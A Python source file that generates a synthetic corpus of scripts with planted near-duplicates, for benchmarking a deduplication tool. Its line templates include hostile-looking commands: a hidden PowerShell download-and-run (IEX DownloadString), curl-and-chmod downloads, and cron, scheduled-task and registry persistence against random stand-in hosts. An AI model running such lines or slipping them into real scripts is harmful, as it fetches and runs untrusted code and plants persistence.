"""Synthetic scripts with planted near-duplicates, for benchmarks (never for training: the text is random filler).

`make_corpus(n, seed)` returns `n` scripts in six languages (PowerShell, JavaScript, Python, bash, batch, VBScript),
about 1-3 KB each, with a few short one-liners, where:
- `positives`: pairs made by a few token edits of one script (Jaccard of 5-gram shingles in `pos_range`, well above
  the usual 0.85 threshold): a near-duplicate finder must report them;
- `edges`: pairs edited until just above the threshold (`edge_range`): it must report them too (the hard case for LSH);
- `negatives`: pairs edited until just below the threshold (`neg_range`): it must not report them;
- families of scripts share a block of lines (Jaccard up to about 0.45), so a finder also meets weaker candidates.
The same `n` and `seed` give the same corpus. Every planted pair's true Jaccard is measured, not assumed.
"""
from __future__ import annotations

import random
import string
from dataclasses import dataclass, field

from pipeline.neardup import jaccard, shingles

_WORDS = ("user data config file path temp cache load save send recv proc handle buffer stream token auth key value "
          "list item count index result output input payload session client server request response update install "
          "service task job worker timer event log error status check verify encode decode parse format build run "
          "start stop init main helper util module object array string number flag option setting profile account "
          "host port addr socket shell cmd exec query table record entry field node tree graph cursor page frame "
          "window image text byte block chunk packet message queue lock state mode level depth offset limit").split()
_TLDS = ("com", "net", "org", "io", "ru", "xyz", "info", "top")
_EXTS = ("exe", "ps1", "dll", "bin", "zip", "txt", "js", "sh", "vbs", "dat")
_COM = ("WScript.Shell", "MSXML2.XMLHTTP", "Scripting.FileSystemObject", "ADODB.Stream", "Shell.Application")
_MODS = ("os", "sys", "json", "re", "base64", "socket", "subprocess", "requests", "pathlib", "shutil", "fs", "http",
         "child_process", "crypto", "path", "zlib", "time", "logging")

# Line templates per language; {v}/{v2} are the script's own variables, the other slots are filled at random.
_TEMPLATES = {
    "python": [
        "import {mod}", "from {mod} import {v}", "def {f}({v}, {v2}):", "    {v} = {v2}.{f}('{s}')",
        "    if {v} > {n}:", "        return {v}", "    for {v} in range({n}):", "        {v}.append({v2}[{n}])",
        "{v} = base64.b64decode('{b}')", "    with open(r'{p}', 'wb') as {v}:", "        {v}.write({v2})",
        "print(f'{s} {{{v}}}')", "{v} = requests.get('{u}', timeout={n})", "class {C}({C2}):",
        "    def __init__(self, {v}):", "        self.{v} = {v}", "# {s}", "subprocess.run(['{w}', '{p}'], check=True)",
        "os.environ['{V}'] = '{s}'", "{v}, {v2} = {v2}.split('{w}', {n})",
    ],
    "powershell": [
        "${v} = New-Object System.Net.WebClient", "${v}.DownloadFile('{u}', \"$env:TEMP\\{w}.{ext}\")",
        "function {C}-{C2} {{", "    param([string]${v}, [int]${v2} = {n})", "    Write-Host \"{s} ${v}\"",
        "    if (${v} -gt {n}) {{ return ${v2} }}", "}}", "${v} = [System.Convert]::FromBase64String('{b}')",
        "Set-ItemProperty -Path 'HKCU:\\Software\\{C}\\{C2}' -Name '{C}' -Value ${v}",
        "Start-Process -FilePath '{p}' -ArgumentList '-{w} {n}' -WindowStyle Hidden",
        "foreach (${v} in Get-ChildItem -Path '{p}' -Recurse) {{",
        "    Remove-Item ${v}.FullName -Force -ErrorAction SilentlyContinue", "# {s}",
        "try {{ Invoke-WebRequest -Uri '{u}' -OutFile '{p}' }} catch {{ Write-Error $_ }}",
        "${v} = Get-WmiObject -Class Win32_{C} | Select-Object -First {n}", "${v2} = ${v} -replace '{w}', '{s}'",
    ],
    "javascript": [
        "const {v} = require('{mod}');", "function {f}({v}, {v2}) {{", "  let {v} = {v2}.{f}('{s}', {n});",
        "  if ({v} === {n}) {{ return {v2}; }}", "}}", "var {v} = new ActiveXObject('{com}');",
        "{v}.Run('{w} {p}', 0, false);", "const {v} = Buffer.from('{b}', 'base64').toString();",
        "fetch('{u}').then(({v}) => {v}.json()).then(({v2}) => console.log({v2}.{f}));",
        "for (let {v} = 0; {v} < {n}; {v}++) {{ {v2}.push({v} * {n}); }}", "// {s}",
        "module.exports = {{ {f}, {v} }};", "document.getElementById('{w}').addEventListener('click', {f});",
        "{v2}.{f}({v}, '{s}');",
    ],
    "bash": [
        "{V}=\"{s}\"", "curl -fsSL '{u}' -o /tmp/{w}.{ext} && chmod +x /tmp/{w}.{ext}", "for {v} in $(seq 1 {n}); do",
        "  echo \"{s} ${v}\" >> {p}", "done", "if [ -f \"{p}\" ]; then", "  rm -rf \"${V}\"", "fi", "{f}() {{",
        "  local {v}=\"$1\"", "  grep -E '{w}' \"${v}\" | awk '{{print ${n}}}'", "}}",
        "echo '{b}' | base64 -d > /tmp/{w}", "# {s}", "export {V}={n}",
        "(crontab -l 2>/dev/null; echo '*/{n} * * * * {p}') | crontab -",
    ],
    "batch": [
        "set {V}={s}", "if exist \"{p}\" del /f /q \"{p}\"", "for /l %%i in (1,1,{n}) do echo %%i >> {w}.{ext}",
        "reg add \"HKCU\\Software\\{C}\\{C2}\" /v {C} /t REG_SZ /d \"{p}\" /f",
        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{u}')\"", "goto :{w}",
        ":{w}", "copy /y \"%~dp0{w}.{ext}\" \"%APPDATA%\\{w}.{ext}\"", "rem {s}",
        "schtasks /create /tn \"{C}\" /tr \"{p}\" /sc minute /mo {n}", "timeout /t {n} /nobreak > nul",
        "call :{f} %{V}% {n}",
    ],
    "vbscript": [
        "Dim {v}, {v2}", "Set {v} = CreateObject(\"{com}\")", "{v}.Open \"GET\", \"{u}\", False", "{v}.Send",
        "If {v}.Status = {n} Then", "    {v2} = {v}.ResponseBody", "End If", "Function {C}({v})",
        "    {C} = {v} & \"{s}\"", "End Function", "' {s}", "{v}.Run \"{w} {p}\", 0, True", "For {v} = 1 To {n}",
        "    {v2} = {v2} + {v}", "Next", "WScript.Sleep {n}",
    ],
}
LANGS = tuple(_TEMPLATES)


class _Slots(dict):
    """Fills template slots lazily (`str.format_map` asks only for the slots a line has)."""

    def __init__(self, rng: random.Random, names: list[str]):
        super().__init__()
        self.rng, self.names = rng, names

    def __missing__(self, key: str) -> str:
        rng = self.rng
        if key in ("v", "v2"):
            return rng.choice(self.names)
        if key == "f":
            return rng.choice(_WORDS) + "_" + rng.choice(_WORDS)
        if key in ("C", "C2"):
            return rng.choice(_WORDS).title() + rng.choice(_WORDS).title()
        if key == "V":
            return rng.choice(_WORDS).upper() + "_" + rng.choice(_WORDS).upper()
        if key == "w":
            return rng.choice(_WORDS) + str(rng.randrange(100))
        if key == "n":
            return str(rng.randrange(100000))
        if key == "s":
            return " ".join(rng.choices(_WORDS, k=rng.randrange(2, 6)))
        if key == "u":
            return f"http://{rng.choice(_WORDS)}{rng.randrange(1000)}.{rng.choice(_TLDS)}/{rng.choice(_WORDS)}/" \
                   f"{rng.choice(_WORDS)}.{rng.choice(_EXTS)}"
        if key == "p":
            if rng.random() < 0.5:
                return f"C:\\Users\\{rng.choice(_WORDS)}\\AppData\\{rng.choice(_WORDS)}\\{rng.choice(_WORDS)}.exe"
            return f"/usr/local/{rng.choice(_WORDS)}/{rng.choice(_WORDS)}{rng.randrange(100)}"
        if key == "b":
            return "".join(rng.choices(string.ascii_letters + string.digits + "+/", k=rng.randrange(16, 80)))
        if key == "ext":
            return rng.choice(_EXTS)
        if key == "mod":
            return rng.choice(_MODS)
        if key == "com":
            return rng.choice(_COM)
        raise KeyError(key)


def _names(rng: random.Random) -> list[str]:
    """A script's own variable names: they recur across its lines, as in real code."""
    return [rng.choice(_WORDS) + rng.choice(_WORDS).title() + (str(rng.randrange(10)) if rng.random() < 0.3 else "")
            for _ in range(rng.randrange(6, 14))]


def _lines(rng: random.Random, lang: str, names: list[str], chars: int) -> list[str]:
    out, size, templates = [], 0, _TEMPLATES[lang]
    while size < chars:
        line = rng.choice(templates).format_map(_Slots(rng, names))
        out.append(line)
        size += len(line) + 1
    return out


def _edit(rng: random.Random, lang: str, names: list[str], lines: list[str]) -> None:
    """One small edit in place: change a number or a name in a line, or delete, insert or duplicate a line."""
    i = rng.randrange(len(lines))
    op = rng.random()
    if op < 0.4:
        words = lines[i].split(" ")
        k = rng.randrange(len(words))
        words[k] = str(rng.randrange(100000)) if any(c.isdigit() for c in words[k]) else rng.choice(_WORDS) + "X"
        lines[i] = " ".join(words)
    elif op < 0.6 and len(lines) > 2:
        del lines[i]
    elif op < 0.85:
        lines.insert(i, _lines(rng, lang, names, 1)[0])
    else:
        lines.insert(i, lines[i])


def _near_copy(rng: random.Random, lang: str, names: list[str], lines: list[str], ngram: int,
               similarity: tuple[float, float]) -> tuple[str, float]:
    """Edit a copy of `lines` one edit at a time until its Jaccard with the original drops below similarity[1];
    start over if it lands below similarity[0]. Returns the text and its measured Jaccard."""
    base = shingles("\n".join(lines) + "\n", ngram)
    while True:
        copy, sim = list(lines), 1.0
        while sim >= similarity[1]:
            _edit(rng, lang, names, copy)
            text = "\n".join(copy) + "\n"
            sim = jaccard(base, shingles(text, ngram))
        if sim >= similarity[0]:
            return text, sim


@dataclass
class Corpus:
    texts: list[str]
    langs: list[str]
    positives: list[tuple[int, int, float]] = field(default_factory=list)  # (i, j, jaccard), i < j: must be found
    edges: list[tuple[int, int, float]] = field(default_factory=list)  # just above the threshold: must be found
    negatives: list[tuple[int, int, float]] = field(default_factory=list)  # just below the threshold: must not


def make_corpus(n: int, seed: int = 0, ngram: int = 5, pos_rate: float = 0.05, edge_rate: float = 0.01,
                neg_rate: float = 0.02, pos_range: tuple[float, float] = (0.9, 0.98),
                edge_range: tuple[float, float] = (0.85, 0.9), neg_range: tuple[float, float] = (0.72, 0.84),
                family_rate: float = 0.1, short_rate: float = 0.05) -> Corpus:
    """`n` scripts: bases, then an edited copy of `pos_rate`*n, `edge_rate`*n and `neg_rate`*n of them (Jaccard with
    the original in `pos_range`, `edge_range`, `neg_range`: [low, high)), all shuffled."""
    rng = random.Random(seed)
    kinds = [("positives", round(n * pos_rate), pos_range), ("edges", round(n * edge_rate), edge_range),
             ("negatives", round(n * neg_rate), neg_range)]
    n_base = n - sum(count for _, count, _ in kinds)
    bases: list[tuple[str, list[str], list[str]]] = []  # (lang, names, lines)
    while len(bases) < n_base:
        lang = rng.choice(LANGS)
        names = _names(rng)
        if rng.random() < family_rate:
            # a family: every member starts with the same block of lines, then goes its own way
            shared = _lines(rng, lang, names, rng.randrange(600, 1400))
            for _ in range(min(rng.randrange(4, 16), n_base - len(bases))):
                bases.append((lang, names, shared + _lines(rng, lang, names, rng.randrange(1000, 2000))))
        else:
            chars = rng.randrange(20, 200) if rng.random() < short_rate else rng.randrange(1000, 3000)
            bases.append((lang, names, _lines(rng, lang, names, chars)))

    texts = ["\n".join(lines) + "\n" for _, _, lines in bases]
    langs = [lang for lang, _, _ in bases]
    long_bases = [i for i, t in enumerate(texts) if len(t) >= 1000]  # one-liners cannot take a few edits and stay
    chosen = iter(rng.sample(long_bases, n - n_base))  # each base gets at most one copy
    planted: list[tuple[str, int, int, float]] = []
    for kind, count, similarity in kinds:
        for _ in range(count):
            i = next(chosen)
            lang, names, lines = bases[i]
            text, sim = _near_copy(rng, lang, names, lines, ngram, similarity)
            texts.append(text)
            langs.append(lang)
            planted.append((kind, i, len(texts) - 1, sim))

    order = list(range(len(texts)))
    rng.shuffle(order)
    where = {old: new for new, old in enumerate(order)}
    corpus = Corpus([texts[i] for i in order], [langs[i] for i in order])
    for kind, i, j, sim in planted:
        getattr(corpus, kind).append((min(where[i], where[j]), max(where[i], where[j]), sim))
    return corpus
